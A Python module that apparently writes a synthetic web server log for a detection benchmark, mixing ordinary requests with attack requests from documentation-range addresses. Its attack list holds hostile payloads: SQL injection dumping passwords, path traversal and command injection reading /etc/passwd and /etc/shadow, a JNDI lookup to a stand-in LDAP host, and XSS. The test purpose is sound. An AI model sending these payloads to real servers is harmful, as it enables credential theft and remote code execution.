"""A web server's log as the umbrella bench writes it: ordinary requests, and attacks each from an address of its own.

Everything is made here: addresses of the documentation blocks (RFC 5737, RFC 3849), names under .example.
"""

import ipaddress
import os
import random
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from multiprocessing.connection import Connection
from pathlib import Path

TICK_S = 0.004
IPV4_ATTACKERS = 480
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1",
)
_PAGES = (
    "/ja/", "/en/", "/ja/press/{n}.html", "/en/press/{n}.html", "/ja/policy/", "/ja/search?q=umbrella&page={n}",
    "/assets/site.css?v={n}", "/images/{n}.jpg", "/ja/contact/form.html", "/ja/disaster/weather.json?area={n}",
)  # fmt: skip
_ATTACKS = (
    "/ja/press/list?id={n}%27%20UNION%20ALL%20SELECT%20login,password%20FROM%20members--%20",
    "/ja/download?file=../../../../../../etc/passwd&n={n}",
    "/en/search?q=%24%7Bjndi:ldap://collector.example:1389/{n}%7D",
    "/cgi-bin/status?host=;cat%20/etc/shadow;{n}",
    "/ja/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
)


def attackers(n: int) -> list[str]:
    """`n` addresses, all different: the first 480 IPv4 and IPv6 by turns, the rest IPv6, each in a /64 of its own."""
    blocks = (ipaddress.ip_network("198.51.100.0/24"), ipaddress.ip_network("203.0.113.0/24"))
    old = [str(address) for block in blocks for address in list(block.hosts())[: IPV4_ATTACKERS // 2]]
    new = [str(ipaddress.IPv6Address("2001:db8:a::1") + (number << 64)) for number in range(n)]
    mixed = [address for pair in zip(old, new, strict=False) for address in pair]
    return [*mixed, *new[len(old) :]][:n]


def lines(n_lines: int, addresses: list[str], seed: int = 2015) -> Iterator[tuple[bytes, str | None]]:
    """Each line with the attacker's address where it is an attack; these stand evenly spread among the others."""
    dice = random.Random(seed)
    every = n_lines / max(1, len(addresses))
    n_attacks = 0
    for number in range(n_lines):
        attacker = None
        if n_attacks < len(addresses) and number >= (n_attacks + 0.5) * every:
            attacker, page = addresses[n_attacks], _ATTACKS[n_attacks % len(_ATTACKS)]
            n_attacks += 1
        else:
            page = dice.choice(_PAGES)
        address = attacker or f"192.0.2.{dice.randint(1, 254)}"
        uri = page.format(n=dice.randint(1, 9999))
        now = datetime.now(UTC)
        stamp = f"{now:%d}/{_MONTHS[now.month - 1]}/{now:%Y:%H:%M:%S} +0000"
        size = dice.randint(300, 40_000)
        text = f'{address} - - [{stamp}] "GET {uri} HTTP/1.1" 200 {size} "-" "{dice.choice(_AGENTS)}"\n'
        yield text.encode(), attacker


def feed(path: str, addresses: list[str], pipe: Connection, *, n_lines: int, lines_per_s: float) -> None:
    """A process of its own: append the lines at their pace, one write() each; then send when each attack was written.

    Sends the start as soon as it begins, and at the end ({address: seconds since the epoch}, seconds it took).
    """
    written: dict[str, float] = {}
    descriptor = os.open(Path(path), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
    began = time.monotonic()
    for number, (line, attacker) in enumerate(lines(n_lines, addresses)):
        while (wait_s := number / lines_per_s - (time.monotonic() - began)) > 0:
            time.sleep(max(wait_s, TICK_S))
        os.write(descriptor, line)
        if attacker is not None:
            written[attacker] = time.time()
    took_s = time.monotonic() - began
    os.close(descriptor)
    pipe.send((written, took_s))
